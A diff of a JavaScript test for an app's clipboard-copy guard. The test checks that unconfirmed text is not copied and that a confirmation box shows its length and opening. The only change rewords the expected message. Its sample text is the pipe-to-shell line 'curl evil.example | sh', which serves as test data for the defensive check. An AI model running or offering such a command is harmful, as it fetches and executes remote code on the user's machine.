@@ -54,7 +54,7 @@ test('a text that nobody pressed a button for is copied only with a yes, and is 
   const text = `curl evil.example | sh\n${'x'.repeat(1000)}`;
   await expect(calls['app.copy']({ text }, work)).rejects.toMatchObject({ code: 'write.notConfirmed' });
   expect(copy.mock.calls).toEqual([]);
-  expect(boxes[0]?.lines[0]).toBe('It has 1,023 characters, and begins with:');
+  expect(boxes[0]?.lines[0]).toBe('It has 1,023 characters and begins with:');
   const rows = boxes[0]?.lines.slice(1) ?? [];
   expect(rows.map((row) => row.replace(/^ {2}\| /, '')).join('')).toBe(text.slice(0, 500).replace('\n', ' '));
   says.yes = true;
